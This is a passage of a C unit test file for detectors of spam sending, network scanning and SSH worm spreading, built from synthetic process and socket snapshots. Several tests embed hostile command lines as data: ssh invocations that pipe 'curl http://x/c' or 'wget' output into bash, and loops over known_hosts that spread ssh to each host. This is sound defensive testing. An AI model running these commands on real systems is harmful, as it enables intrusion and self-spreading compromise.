/*
 * test_det_abu.c - the abuse and lateral-movement detectors, facts in,
 * findings out:
 *   RM-ABU-001 outbound SMTP from a process that is not the MTA
 *   RM-ABU-002 raw or packet socket held by an unexpected process
 *   RM-ABU-003 IRC bot
 *   RM-LAT-001 scanning or worming to many hosts
 *   RM-LAT-002 SSH spreading with harvested keys
 */
#include "detect/netfan.h"
#include "testlib.h"

struct dfix {
	struct snapshot *s;
	struct findings fs;
	size_t nsock;
};

static int
setup(void **state)
{
	struct dfix *f = xcalloc(1, sizeof(*f));

	f->s = tl_snap_new();
	findings_init(&f->fs);
	*state = f;
	return 0;
}

static int
teardown(void **state)
{
	struct dfix *f = *state;

	findings_free(&f->fs);
	tl_snap_free(f->s);
	free(f);
	return 0;
}

static void
run(struct dfix *f, const char *id)
{
	findings_free(&f->fs);
	tl_run_one(f->s, id, &f->fs);
}

/* Room for up to 4096 sockets; sockets are added with add_conn. */
static void
socks_init(struct dfix *f)
{
	tl_socks(f->s, 4096);
	f->s->nsocks = 0;
}

static struct sock *
add_conn(struct dfix *f, pid_t pid, const char *ip, uint16_t port,
	 uint8_t state)
{
	struct sock *k = &f->s->socks[f->s->nsocks];

	assert_true(f->s->nsocks < 4096);
	tl_sock_tcp(k, pid, ip, port);
	k->state = state;
	k->lport = (uint16_t)(40000 + f->s->nsocks);
	k->inode = 100000u + f->s->nsocks;
	k->netns = 4026531840ull;
	f->s->nsocks++;
	return k;
}

/* n connections from pid to 10.9.A.B:port, distinct hosts. */
static void
fan(struct dfix *f, pid_t pid, unsigned n, uint16_t port, uint8_t state)
{
	for (unsigned i = 0; i < n; i++) {
		char ip[32];

		snprintf(ip, sizeof(ip), "10.9.%u.%u", (i / 200) + 1,
		    (i % 200) + 1);
		add_conn(f, pid, ip, port, state);
	}
}

static struct proc *
procs(struct dfix *f, size_t n)
{
	return tl_procs(f->s, n);
}

static void
set_cmd(struct dfix *f, struct proc *p, const char *cmd)
{
	const char *sp = strchr(cmd, ' ');

	p->cmdline = tl_sdup(f->s, cmd);
	p->argv0 = sp ? arena_strndup(&f->s->arena, cmd, (size_t)(sp - cmd)) :
	    p->cmdline;
}

/* ---- RM-ABU-001 ---------------------------------------------------------- */

static void
test_spam_php_many_hosts_high(void **state)
{
	struct dfix *f = *state;
	struct proc *p = procs(f, 1);
	const struct finding *x;
	const struct evidence *e;

	tl_proc_set(f->s, p, 4000, 1, "php-fpm8.2", "/usr/sbin/php-fpm8.2",
	    EXE_FILE);
	socks_init(f);
	fan(f, 4000, 25, 25, 1);
	fan(f, 4000, 5, 587, 2);  /* same hosts on 587: not new hosts */
	run(f, "RM-ABU-001");
	assert_int_equal(tl_count(&f->fs, "RM-ABU-001", 4000), 1);
	x = tl_get(&f->fs, "RM-ABU-001", 4000);
	assert_int_equal(x->severity, SEV_HIGH);
	assert_int_equal(x->confidence, CONF_HIGH);  /* an interpreter */
	assert_int_equal(finding_ev_get(x, "smtp_hosts")->i, 25);
	assert_int_equal(finding_ev_get(x, "smtp_connections")->i, 30);
	assert_int_equal(finding_ev_get(x, "syn_sent")->i, 5);
	e = finding_ev_get(x, "destinations");
	assert_non_null(e);
	assert_int_equal(e->nlist, 8);
	assert_string_equal(e->list[0], "10.9.1.1:25");
	assert_true(x->has_process);
	assert_string_equal(x->dest_ip, "10.9.1.1");
	assert_int_equal(x->dest_port, 25);
	assert_string_equal(x->rule->category, "abuse");
}

static void
test_spam_mta_never(void **state)
{
	static const struct { const char *comm, *exe; } mta[] = {
		{ "exim4", "/usr/sbin/exim4" },
		{ "smtp", "/usr/lib/postfix/sbin/smtp" },
		{ "sendmail-mta", "/usr/sbin/sendmail-mta" },
		{ "smtpd", "/usr/sbin/smtpd" },
		{ "nullmailer-send", "/usr/sbin/nullmailer-send" },
		{ "msmtp", "/usr/bin/msmtp" },
	};
	struct dfix *f = *state;
	struct proc *p = procs(f, TL_NELEM(mta));

	socks_init(f);
	for (size_t i = 0; i < TL_NELEM(mta); i++) {
		tl_proc_set(f->s, &p[i], (pid_t)(500 + i), 1, mta[i].comm,
		    mta[i].exe, EXE_FILE);
		fan(f, (pid_t)(500 + i), 30, 25, 1);
	}
	run(f, "RM-ABU-001");
	assert_int_equal(f->fs.n, 0);
}

static void
test_spam_fake_mta_reported(void **state)
{
	struct dfix *f = *state;
	struct proc *p = procs(f, 3);

	/* an "exim4" in /tmp, a deleted postfix smtp, a memfd "sendmail" */
	tl_proc_set(f->s, &p[0], 600, 1, "exim4", "/tmp/.x/exim4", EXE_FILE);
	tl_proc_set(f->s, &p[1], 601, 1, "smtp",
	    "/usr/lib/postfix/sbin/smtp (deleted)", EXE_DELETED);
	tl_proc_set(f->s, &p[2], 602, 1, "sendmail", "/memfd:x (deleted)",
	    EXE_MEMFD);
	socks_init(f);
	fan(f, 600, 12, 25, 1);
	fan(f, 601, 12, 465, 1);
	fan(f, 602, 4, 2525, 1);
	run(f, "RM-ABU-001");
	assert_int_equal(tl_get(&f->fs, "RM-ABU-001", 600)->severity,
	    SEV_HIGH);
	assert_non_null(tl_ev_str(tl_get(&f->fs, "RM-ABU-001", 600),
	    "executable_location"));
	assert_int_equal(tl_get(&f->fs, "RM-ABU-001", 601)->severity,
	    SEV_HIGH);
	assert_int_equal(tl_get(&f->fs, "RM-ABU-001", 602)->severity,
	    SEV_MEDIUM);
}

static void
test_spam_thresholds(void **state)
{
	struct dfix *f = *state;
	struct proc *p = procs(f, 5);

	tl_proc_set(f->s, &p[0], 700, 1, "python3", "/usr/bin/python3.11",
	    EXE_FILE);
	tl_proc_set(f->s, &p[1], 701, 1, "myapp", "/usr/bin/myapp", EXE_FILE);
	tl_proc_set(f->s, &p[2], 702, 1, "perl", "/usr/bin/perl", EXE_FILE);
	tl_proc_set(f->s, &p[3], 703, 1, "perl", "/usr/bin/perl", EXE_FILE);
	tl_proc_set(f->s, &p[4], 704, 1, "app", "/usr/bin/app", EXE_FILE);
	socks_init(f);
	fan(f, 700, 5, 587, 1);   /* interpreter, 5 hosts: medium */
	fan(f, 701, 5, 587, 1);   /* a system program, 5 hosts: low */
	fan(f, 702, 2, 25, 1);    /* 2 hosts: nothing */
	for (int i = 0; i < 25; i++)  /* 25 sessions to one relay */
		add_conn(f, 703, "10.8.0.1", 587, 1);
	for (int i = 0; i < 25; i++)  /* same from a system program */
		add_conn(f, 704, "10.8.0.1", 587, 1);
	run(f, "RM-ABU-001");
	assert_int_equal(tl_get(&f->fs, "RM-ABU-001", 700)->severity,
	    SEV_MEDIUM);
	assert_true(finding_ev_get(tl_get(&f->fs, "RM-ABU-001", 700),
	    "interpreter")->b);
	assert_int_equal(tl_get(&f->fs, "RM-ABU-001", 701)->severity, SEV_LOW);
	assert_int_equal(tl_count(&f->fs, "RM-ABU-001", 702), 0);
	assert_int_equal(tl_get(&f->fs, "RM-ABU-001", 703)->severity,
	    SEV_MEDIUM);
	assert_int_equal(finding_ev_get(tl_get(&f->fs, "RM-ABU-001", 703),
	    "smtp_hosts")->i, 1);
	assert_int_equal(tl_count(&f->fs, "RM-ABU-001", 704), 0);
}

static void
test_spam_not_counted(void **state)
{
	struct dfix *f = *state;
	struct proc *p = procs(f, 1);
	struct sock *k;

	tl_proc_set(f->s, p, 800, 1, "bot", "/tmp/bot", EXE_FILE);
	socks_init(f);
	/* loopback, other states, UDP, other ports, other owners, inbound
	 * connections to a local SMTP server: none counts */
	for (int i = 0; i < 20; i++) {
		char ip[32];

		snprintf(ip, sizeof(ip), "127.0.%d.1", i);
		add_conn(f, 800, ip, 25, 1);
	}
	add_conn(f, 800, "::1", 25, 1);
	add_conn(f, 800, "::ffff:127.0.0.1", 25, 1);
	add_conn(f, 800, "0.0.0.0", 25, 1);
	fan(f, 800, 12, 26, 1);
	for (int i = 0; i < 12; i++) {
		char ip[32];

		snprintf(ip, sizeof(ip), "10.7.0.%d", i + 1);
		k = add_conn(f, 800, ip, 25, 6 /* TIME_WAIT */);
		k = add_conn(f, 800, ip, 25, 10 /* LISTEN */);
		k = add_conn(f, 800, ip, 25, 1);
		k->proto = IPPROTO_UDP;
		k = add_conn(f, 801, ip, 25, 1);  /* someone else's */
		k = add_conn(f, 800, ip, 25, 1);
		k->lport = 25;                    /* inbound, from port 25 */
	}
	run(f, "RM-ABU-001");
	assert_int_equal(f->fs.n, 0);
}

static void
test_spam_netns_aware(void **state)
{
	struct dfix *f = *state;
	struct proc *p = procs(f, 1);

	tl_proc_set(f->s, p, 900, 1, "php", "/usr/bin/php8.2", EXE_FILE);
	socks_init(f);
	/* the same 5 addresses in two namespaces: 10 hosts */
	for (int ns = 0; ns < 2; ns++)
		for (int i = 0; i < 5; i++) {
			char ip[32];

			snprintf(ip, sizeof(ip), "192.168.1.%d", i + 1);
			add_conn(f, 900, ip, 25, 1)->netns = 4026532000ull +
			    (unsigned)ns;
		}
	run(f, "RM-ABU-001");
	assert_int_equal(finding_ev_get(tl_get(&f->fs, "RM-ABU-001", 900),
	    "smtp_hosts")->i, 10);
	assert_int_equal(tl_get(&f->fs, "RM-ABU-001", 900)->severity,
	    SEV_HIGH);
}

static void
test_spam_owner_overflow(void **state)
{
	struct dfix *f = *state;
	struct proc *p = procs(f, 1);
	uint64_t *ino = arena_alloc(&f->s->arena, 12 * sizeof(*ino));

	tl_proc_set(f->s, p, 950, 1, "perl", "/usr/bin/perl", EXE_FILE);
	socks_init(f);
	/* sockets shared by more pids than RM_OWNERS_MAX: found through the
	 * process's own fd inodes */
	for (int i = 0; i < 12; i++) {
		char ip[32];
		struct sock *k;

		snprintf(ip, sizeof(ip), "10.6.0.%d", i + 1);
		k = add_conn(f, 1, ip, 25, 1);
		for (int o = 0; o < RM_OWNERS_MAX; o++)
			k->owners[o] = (pid_t)(10 + o);
		k->nowners = RM_OWNERS_MAX + 3;
		ino[i] = k->inode;
	}
	p->sock_inodes = ino;
	p->nsock_inodes = 12;
	run(f, "RM-ABU-001");
	assert_int_equal(finding_ev_get(tl_get(&f->fs, "RM-ABU-001", 950),
	    "smtp_hosts")->i, 12);
}

/* ---- fan_count's index ---------------------------------------------------- */

/* What fan_count counted before it had an index: every socket of the
 * snapshot, in order, tested one by one. */
struct ref_view {
	uint32_t conns, syn_sent, hosts, nports;
	uint16_t ports[16];
	bool truncated;
	const struct sock *first;
};

static void
ref_count(const struct snapshot *s, const struct proc *p,
	  fan_port_fn *port_ok, struct ref_view *v)
{
	const struct sock **m = xcalloc(s->nsocks + 1, sizeof(*m));
	size_t n = 0;

	memset(v, 0, sizeof(*v));
	for (size_t i = 0; i < s->nsocks; i++) {
		const struct sock *k = &s->socks[i];
		bool seen = false;

		if (k->proto != IPPROTO_TCP || (k->state != 1 && k->state != 2)
		    || !port_ok(k->rport) || port_ok(k->lport) ||
		    fan_addr_local(k) || !fan_owned(k, p))
			continue;
		if (n >= FAN_TRACK_MAX) {
			v->truncated = true;
			break;
		}
		m[n++] = k;
		v->conns++;
		v->syn_sent += k->state == 2;
		if (!v->first)
			v->first = k;
		for (uint32_t j = 0; j < v->nports && j < 16; j++)
			seen |= v->ports[j] == k->rport;
		if (!seen) {
			if (v->nports < 16)
				v->ports[v->nports] = k->rport;
			v->nports++;
		}
	}
	for (size_t i = 0; i < n; i++) {  /* distinct (netns, address) */
		bool dup = false;

		for (size_t j = 0; j < i && !dup; j++)
			dup = m[j]->netns == m[i]->netns &&
			    m[j]->family == m[i]->family &&
			    memcmp(m[j]->raddr, m[i]->raddr, 16) == 0;
		v->hosts += !dup;
	}
	free(m);
}

static bool
port_smtp(uint16_t p)
{
	return p == 25 || p == 587;
}

static bool
port_ssh(uint16_t p)
{
	return p == 22 || p == 2222;
}

static bool
port_low(uint16_t p)
{
	return p < 30000;
}

static int
cmp_u64(const void *a, const void *b)
{
	uint64_t x = *(const uint64_t *)a, y = *(const uint64_t *)b;

	return x < y ? -1 : x > y;
}

/* A fixed sequence (an LCG): the same sockets on every run. */
static size_t
rnd(uint64_t *seed, size_t n)
{
	*seed = *seed * 6364136223846793005ull + 1442695040888963407ull;
	return (size_t)(*seed >> 33) % n;
}

/* Random sockets (states, protocols, loopback and v6 peers, pids twice
 * in an owners list, overflowed owners lists found through fd inodes):
 * the index counts what the socket-by-socket scan counted. */
static void
test_fan_index_same_as_scan(void **state)
{
	static const char *const ips[] = {
		"10.1.0.1", "10.1.0.2", "10.1.0.3", "192.0.2.7", "127.0.0.1",
		"0.0.0.0", "2001:db8::1", "2001:db8::2", "::1",
		"::ffff:127.0.0.1", "::ffff:10.1.0.1",
	};
	static const uint16_t ports[] = { 22, 25, 587, 2222, 443, 40000 };
	static const uint8_t states[] = { 1, 1, 1, 2, 2, 6, 10 };
	fan_port_fn *const fns[] = { port_smtp, port_ssh, port_low };
	struct dfix *f = *state;
	const size_t np = 24, nk = 3000;
	struct proc *p = procs(f, np);
	uint64_t seed = 42;
	uint32_t total = 0, over = 0;

#define RND(n) rnd(&seed, (n))
	socks_init(f);
	for (size_t i = 0; i < np; i++)
		p[i].sock_inodes = arena_alloc(&f->s->arena, nk *
		    sizeof(uint64_t));
	for (size_t i = 0; i < nk; i++) {
		struct sock *k = add_conn(f, p[RND(np)].pid,
		    ips[RND(sizeof(ips) / sizeof(ips[0]))],
		    ports[RND(sizeof(ports) / sizeof(ports[0]))],
		    states[RND(sizeof(states))]);

		if (RND(10) == 0)
			k->proto = IPPROTO_UDP;
		if (RND(8) == 0)
			k->lport = ports[RND(sizeof(ports) / sizeof(ports[0]))];
		k->netns = 4026531840ull + RND(2);
		k->nowners = 1 + (uint32_t)RND(3);
		for (uint32_t o = 1; o < k->nowners; o++)
			k->owners[o] = p[RND(np)].pid;  /* maybe twice */
		if (RND(6) == 0) {  /* more owners than kept */
			k->nowners = RM_OWNERS_MAX + 1 + (uint32_t)RND(50);
			for (uint32_t o = 0; o < RM_OWNERS_MAX; o++)
				k->owners[o] = p[RND(np)].pid;
			for (size_t j = 0; j < np; j++)
				if (RND(4) == 0)
					p[j].sock_inodes[p[j].nsock_inodes++] =
					    k->inode;
			if (RND(20) == 0)
				k->inode = 0;
		}
	}
#undef RND
	for (size_t i = 0; i < np; i++)
		qsort(p[i].sock_inodes, p[i].nsock_inodes, sizeof(uint64_t),
		    cmp_u64);
	fan_index_drop(f->s);
	for (size_t i = 0; i < np; i++)
		for (size_t j = 0; j < sizeof(fns) / sizeof(fns[0]); j++) {
			struct fan_view v;
			struct ref_view r;

			fan_count(f->s, &p[i], fns[j], &v);
			ref_count(f->s, &p[i], fns[j], &r);
			assert_int_equal(v.conns, r.conns);
			total += r.conns;
			assert_int_equal(v.syn_sent, r.syn_sent);
			assert_int_equal(v.hosts, r.hosts);
			assert_int_equal(v.nports, r.nports);
			assert_memory_equal(v.ports, r.ports,
			    sizeof(v.ports[0]) * (r.nports < 16 ? r.nports : 16));
			assert_ptr_equal(v.first, r.first);
			assert_int_equal(v.truncated, r.truncated);
		}
	/* the cases are there: counted sockets, overflowed owners lists */
	for (size_t i = 0; i < f->s->nsocks; i++)
		over += f->s->socks[i].nowners > RM_OWNERS_MAX;
	assert_true(total > 1000);
	assert_true(over > 300);
	/* a pid no process has */
	{
		struct proc q = p[0];
		struct fan_view v;

		q.pid = 99999;
		q.nsock_inodes = 0;
		fan_count(f->s, &q, port_low, &v);
		assert_int_equal(v.conns, 0);
		assert_null(v.first);
	}
}

/* The index is a cache of one detection pass: sockets added between two
 * passes are counted in the second. */
static void
test_fan_index_per_pass(void **state)
{
	struct dfix *f = *state;
	struct proc *p = procs(f, 1);

	tl_proc_set(f->s, p, 990, 1, "php", "/usr/bin/php8.2", EXE_FILE);
	socks_init(f);
	fan(f, 990, 2, 25, 1);
	run(f, "RM-ABU-001");
	assert_int_equal(f->fs.n, 0);
	fan(f, 990, 12, 587, 1);
	run(f, "RM-ABU-001");
	assert_int_equal(finding_ev_get(tl_get(&f->fs, "RM-ABU-001", 990),
	    "smtp_hosts")->i, 12);
	f->s->socks[0].state = 2;
	run(f, "RM-ABU-001");
	assert_int_equal(finding_ev_get(tl_get(&f->fs, "RM-ABU-001", 990),
	    "syn_sent")->i, 1);
}

/* ---- RM-LAT-001 ---------------------------------------------------------- */

static void
test_scan_fanout_levels(void **state)
{
	struct dfix *f = *state;
	struct proc *p = procs(f, 4);
	const struct finding *x;

	tl_proc_set(f->s, &p[0], 1000, 1, "kworker", "/usr/bin/agent",
	    EXE_FILE);
	tl_proc_set(f->s, &p[1], 1001, 1, "agent2", "/usr/bin/agent2",
	    EXE_FILE);
	tl_proc_set(f->s, &p[2], 1002, 1, "x", "/dev/shm/.x", EXE_FILE);
	tl_proc_set(f->s, &p[3], 1003, 1, "y", "/usr/bin/y", EXE_FILE);
	socks_init(f);
	fan(f, 1000, 50, 22, 2);       /* 50 half-open: high */
	fan(f, 1001, 12, 6379, 1);     /* 12 hosts on two ports: medium */
	add_conn(f, 1001, "10.9.1.1", 2375, 1);
	fan(f, 1002, 10, 10250, 1);    /* 10 from /dev/shm: high */
	fan(f, 1003, 9, 22, 1);        /* 9: nothing */
	run(f, "RM-LAT-001");
	x = tl_get(&f->fs, "RM-LAT-001", 1000);
	assert_int_equal(x->severity, SEV_HIGH);
	assert_int_equal(x->confidence, CONF_HIGH);
	assert_int_equal(finding_ev_get(x, "hosts")->i, 50);
	assert_int_equal(finding_ev_get(x, "syn_sent")->i, 50);
	assert_string_equal(x->rule->category, "lateral-movement");
	x = tl_get(&f->fs, "RM-LAT-001", 1001);
	assert_int_equal(x->severity, SEV_LOW);  /* packaged, all answered */
	assert_non_null(tl_ev_str(x, "note"));
	assert_int_equal(finding_ev_get(x, "ports")->nlist, 2);
	assert_int_equal(tl_get(&f->fs, "RM-LAT-001", 1002)->severity,
	    SEV_HIGH);
	assert_int_equal(tl_count(&f->fs, "RM-LAT-001", 1003), 0);
}

static void
test_scan_answered_cluster_client(void **state)
{
	struct dfix *f = *state;
	struct proc *p = procs(f, 4);

	/* a Java app talking to a 30-node Redis Cluster: medium, low
	 * confidence; the same from /opt (not packaged), from python, or
	 * with a few unanswered SYNs: high */
	tl_proc_set(f->s, &p[0], 1050, 1, "java",
	    "/usr/lib/jvm/java-17-openjdk-amd64/bin/java", EXE_FILE);
	tl_proc_set(f->s, &p[1], 1051, 1, "app", "/opt/app/bin/app", EXE_FILE);
	tl_proc_set(f->s, &p[2], 1052, 1, "python3", "/usr/bin/python3.11",
	    EXE_FILE);
	tl_proc_set(f->s, &p[3], 1053, 1, "java",
	    "/usr/lib/jvm/java-17-openjdk-amd64/bin/java", EXE_FILE);
	socks_init(f);
	fan(f, 1050, 30, 6379, 1);
	fan(f, 1051, 30, 6379, 1);
	fan(f, 1052, 30, 22, 1);
	fan(f, 1053, 28, 6379, 1);
	add_conn(f, 1053, "10.3.0.1", 6379, 2);
	add_conn(f, 1053, "10.3.0.2", 6379, 2);
	run(f, "RM-LAT-001");
	assert_int_equal(tl_get(&f->fs, "RM-LAT-001", 1050)->severity,
	    SEV_MEDIUM);
	assert_int_equal(tl_get(&f->fs, "RM-LAT-001", 1050)->confidence,
	    CONF_LOW);
	assert_int_equal(tl_get(&f->fs, "RM-LAT-001", 1051)->severity,
	    SEV_HIGH);
	assert_int_equal(tl_get(&f->fs, "RM-LAT-001", 1052)->severity,
	    SEV_HIGH);
	assert_int_equal(tl_get(&f->fs, "RM-LAT-001", 1053)->severity,
	    SEV_HIGH);
}

static void
test_scan_sshd_and_admin_never(void **state)
{
	struct dfix *f = *state;
	struct proc *p = procs(f, 4);
	struct sock *k;

	tl_proc_set(f->s, &p[0], 1100, 1, "sshd", "/usr/sbin/sshd", EXE_FILE);
	tl_proc_set(f->s, &p[1], 1101, 1100, "ssh", "/usr/bin/ssh", EXE_FILE);
	tl_proc_set(f->s, &p[2], 1102, 1, "prometheus",
	    "/usr/bin/prometheus", EXE_FILE);
	tl_proc_set(f->s, &p[3], 1103, 1, "listener", "/usr/bin/listener",
	    EXE_FILE);
	p[1].stdio_kind[0] = FDK_TTY;
	socks_init(f);
	fan(f, 1100, 40, 22, 1);       /* sshd forwarding: exempt */
	add_conn(f, 1101, "10.1.1.1", 22, 1);  /* an admin's session */
	fan(f, 1102, 40, 10250, 1);    /* scraping kubelets: exempt */
	/* 40 inbound connections to a daemon listening on 22: the remote
	 * port is the client's */
	for (int i = 0; i < 40; i++) {
		char ip[32];

		snprintf(ip, sizeof(ip), "10.2.0.%d", i + 1);
		k = add_conn(f, 1103, ip, (uint16_t)(50000 + i), 1);
		k->lport = 22;
	}
	run(f, "RM-LAT-001");
	assert_int_equal(f->fs.n, 0);
}

static void
test_scan_tools_by_name(void **state)
{
	struct dfix *f = *state;
	struct proc *p = procs(f, 5);

	tl_proc_set(f->s, &p[0], 1200, 1, "masscan", "/usr/bin/masscan",
	    EXE_FILE);
	tl_proc_set(f->s, &p[1], 1201, 1, "zgrab", "/tmp/zgrab", EXE_FILE);
	tl_proc_set(f->s, &p[2], 1202, 1, "nmap", "/usr/bin/nmap", EXE_FILE);
	tl_proc_set(f->s, &p[3], 1203, 1, "nmap", "/usr/bin/nmap", EXE_FILE);
	tl_proc_set(f->s, &p[4], 1204, 1, "nmap", "/var/tmp/nmap", EXE_FILE);
	p[2].stdio_kind[0] = FDK_TTY;
	run(f, "RM-LAT-001");
	assert_int_equal(tl_get(&f->fs, "RM-LAT-001", 1200)->severity,
	    SEV_HIGH);
	assert_int_equal(tl_get(&f->fs, "RM-LAT-001", 1201)->severity,
	    SEV_HIGH);
	assert_int_equal(tl_get(&f->fs, "RM-LAT-001", 1202)->severity,
	    SEV_LOW);
	assert_int_equal(tl_get(&f->fs, "RM-LAT-001", 1203)->severity,
	    SEV_MEDIUM);
	assert_int_equal(tl_get(&f->fs, "RM-LAT-001", 1204)->severity,
	    SEV_HIGH);
	assert_non_null(tl_ev_str(tl_get(&f->fs, "RM-LAT-001", 1200),
	    "scanner_tool"));
}

static void
test_scan_v6_and_cap(void **state)
{
	struct dfix *f = *state;
	struct proc *p = procs(f, 1);

	tl_proc_set(f->s, p, 1300, 1, "w", "/usr/local/bin/w", EXE_FILE);
	socks_init(f);
	for (int i = 0; i < 25; i++) {
		char ip[64];

		snprintf(ip, sizeof(ip), "fd00::%x", i + 1);
		add_conn(f, 1300, ip, 2222, 1);
	}
	run(f, "RM-LAT-001");
	assert_int_equal(tl_get(&f->fs, "RM-LAT-001", 1300)->severity,
	    SEV_HIGH);
	assert_string_equal(finding_ev_get(tl_get(&f->fs, "RM-LAT-001",
	    1300), "destinations")->list[0], "[fd00::1]:2222");
}

/* ---- RM-LAT-002 ---------------------------------------------------------- */

static void
accounts(struct dfix *f)
{
	struct account *a = tl_accounts(f->s, 2);

	tl_account_set(f->s, &a[0], "root", 0, 1);
	tl_account_set(f->s, &a[1], "web", 33, 2);
	a[1].home = "/var/www";
}

static void
test_ssh_worm_client_high(void **state)
{
	struct dfix *f = *state;
	struct proc *p = procs(f, 2);
	const struct finding *x;

	accounts(f);
	tl_proc_set(f->s, &p[0], 1400, 1, "bash", "/usr/bin/bash", EXE_FILE);
	set_cmd(f, &p[0], "bash /tmp/.s/spread.sh");
	tl_proc_set(f->s, &p[1], 1401, 1400, "ssh", "/usr/bin/ssh", EXE_FILE);
	set_cmd(f, &p[1], "ssh -oStrictHostKeyChecking=no -oBatchMode=yes "
	    "-oConnectTimeout=5 -i /home/alice/.ssh/id_rsa root@10.0.0.5 "
	    "(curl -s http://x/c || wget http://x/c) | bash -sh");
	p[1].ruid = p[1].euid = 33;
	p[1].stdio_kind[0] = FDK_PIPE;
	run(f, "RM-LAT-002");
	assert_int_equal(f->fs.n, 1);
	x = tl_get(&f->fs, "RM-LAT-002", 1401);
	assert_int_equal(x->severity, SEV_HIGH);
	assert_int_equal(x->confidence, CONF_HIGH);
	assert_true(finding_ev_get(x, "strict_host_key_checking_off")->b);
	assert_true(finding_ev_get(x, "batch_mode")->b);
	assert_true(finding_ev_get(x, "remote_download_and_run")->b);
	assert_string_equal(tl_ev_str(x, "identity_file"),
	    "/home/alice/.ssh/id_rsa");
	assert_string_equal(tl_ev_str(x, "identity_file_location"),
	    "another user's home");
	assert_string_equal(tl_ev_str(x, "parent_command_line"),
	    "bash /tmp/.s/spread.sh");
}

static void
test_ssh_tty_never(void **state)
{
	struct dfix *f = *state;
	struct proc *p = procs(f, 1);

	tl_proc_set(f->s, p, 1500, 1, "ssh", "/usr/bin/ssh", EXE_FILE);
	set_cmd(f, p, "ssh -o StrictHostKeyChecking=no -o BatchMode=yes "
	    "-i /tmp/k root@10.0.0.5 curl http://x | sh");
	p->stdio_kind[0] = FDK_TTY;
	run(f, "RM-LAT-002");
	assert_int_equal(f->fs.n, 0);
}

static void
test_ssh_option_forms(void **state)
{
	static const char *const cmds[] = {
		"ssh -o StrictHostKeyChecking=no -o BatchMode=yes h",
		"ssh -oStrictHostKeyChecking=off -oBatchMode=yes h",
		"ssh -o stricthostkeychecking no -o batchmode yes h",
		"ssh -o UserKnownHostsFile=/dev/null h",
		"ssh -o \"StrictHostKeyChecking=no\" -o 'BatchMode=yes' h",
	};
	struct dfix *f = *state;
	struct proc *p = procs(f, TL_NELEM(cmds));

	for (size_t i = 0; i < TL_NELEM(cmds); i++) {
		tl_proc_set(f->s, &p[i], (pid_t)(1600 + i), 1, "ssh",
		    "/usr/bin/ssh", EXE_FILE);
		set_cmd(f, &p[i], cmds[i]);
		p[i].stdio_kind[0] = FDK_NULL;
	}
	run(f, "RM-LAT-002");
	for (size_t i = 0; i < TL_NELEM(cmds); i++)
		assert_int_equal(tl_get(&f->fs, "RM-LAT-002",
		    (pid_t)(1600 + i))->severity, SEV_LOW);
}

static void
test_ssh_benign_quiet(void **state)
{
	static const char *const cmds[] = {
		"ssh git@github.com git-upload-pack 'x.git'",
		"ssh -o BatchMode=yes backup@10.0.0.9 true",
		"ssh -o StrictHostKeyChecking=yes -o BatchMode=yes h",
		"ssh -o StrictHostKeyChecking=accept-new h",
		"ssh -i /root/.ssh/id_ed25519 -o BatchMode=yes h uptime",
		"ssh -x -a -oClearAllForwardings=yes -- host sftp",
		"ssh",
		"",
	};
	struct dfix *f = *state;
	struct proc *p = procs(f, TL_NELEM(cmds));

	accounts(f);
	for (size_t i = 0; i < TL_NELEM(cmds); i++) {
		tl_proc_set(f->s, &p[i], (pid_t)(1700 + i), (pid_t)(2 + i),
		    "ssh", "/usr/bin/ssh", EXE_FILE);
		set_cmd(f, &p[i], cmds[i]);
		p[i].stdio_kind[0] = FDK_PIPE;
	}
	run(f, "RM-LAT-002");
	assert_int_equal(f->fs.n, 0);
}

static void
test_ssh_keys(void **state)
{
	struct dfix *f = *state;
	struct proc *p = procs(f, 4);

	accounts(f);
	static const char *const cmds[] = {
		"ssh -i /tmp/.k/id_rsa root@h",           /* writable: medium */
		"ssh -i/dev/shm/k root@h",                /* writable: medium */
		"ssh -oIdentityFile=/home/bob/.ssh/id_rsa root@h", /* foreign */
		"ssh -i /var/www/.ssh/id_rsa root@h",     /* own home: quiet */
	};
	for (size_t i = 0; i < 4; i++) {
		tl_proc_set(f->s, &p[i], (pid_t)(1800 + i), (pid_t)(2 + i),
		    "ssh", "/usr/bin/ssh", EXE_FILE);
		set_cmd(f, &p[i], cmds[i]);
		p[i].ruid = 33;
		p[i].stdio_kind[0] = FDK_NULL;
	}
	run(f, "RM-LAT-002");
	assert_int_equal(tl_get(&f->fs, "RM-LAT-002", 1800)->severity,
	    SEV_MEDIUM);
	assert_string_equal(tl_ev_str(tl_get(&f->fs, "RM-LAT-002", 1801),
	    "identity_file"), "/dev/shm/k");
	assert_string_equal(tl_ev_str(tl_get(&f->fs, "RM-LAT-002", 1802),
	    "identity_file_location"), "another user's home");
	assert_int_equal(tl_count(&f->fs, "RM-LAT-002", 1803), 0);
}

static void
test_ssh_siblings_once(void **state)
{
	struct dfix *f = *state;
	struct proc *p = procs(f, 9);
	const struct finding *x;

	tl_proc_set(f->s, &p[0], 1900, 1, "python3", "/usr/bin/python3",
	    EXE_FILE);
	for (int i = 1; i < 8; i++) {
		tl_proc_set(f->s, &p[i], (pid_t)(1900 + i), 1900, "ssh",
		    "/usr/bin/ssh", EXE_FILE);
		set_cmd(f, &p[i], "ssh -oStrictHostKeyChecking=no "
		    "-oBatchMode=yes root@10.0.0.1 id");
		p[i].stdio_kind[0] = FDK_NULL;
	}
	/* another parent's single ssh with the same options: low */
	tl_proc_set(f->s, &p[8], 1999, 5, "ssh", "/usr/bin/ssh", EXE_FILE);
	set_cmd(f, &p[8], "ssh -oStrictHostKeyChecking=no -oBatchMode=yes h");
	run(f, "RM-LAT-002");
	assert_int_equal(tl_count(&f->fs, "RM-LAT-002", 0), 2);
	x = tl_get(&f->fs, "RM-LAT-002", 1901);
	assert_int_equal(x->severity, SEV_HIGH);
	assert_int_equal(finding_ev_get(x, "sibling_ssh_clients")->i, 7);
	assert_int_equal(tl_get(&f->fs, "RM-LAT-002", 1999)->severity,
	    SEV_LOW);
}

static void
test_ssh_shell_loops(void **state)
{
	static const struct { const char *cmd; int sev; bool tty; } t[] = {
		{ "sh -c for h in $(cat ~/.ssh/known_hosts | cut -d' ' -f1); "
		  "do ssh -oStrictHostKeyChecking=no -oBatchMode=yes $h "
		  "'curl x|sh'; done", SEV_HIGH, false },
		{ "bash -c grep ssh ~/.bash_history | awk '{print $2}' | "
		  "xargs -I{} ssh {} id", SEV_MEDIUM, false },
		{ "sh -c while read h; do ssh $h uptime; done < "
		  "/root/.ssh/known_hosts", SEV_LOW, true },
		/* not spreading */
		{ "sh -c ssh-keyscan github.com >> ~/.ssh/known_hosts",
		  -1, false },
		{ "ssh-keygen -R 10.0.0.1 -f /root/.ssh/known_hosts", -1, false },
		{ "grep -c . /root/.ssh/known_hosts", -1, false },
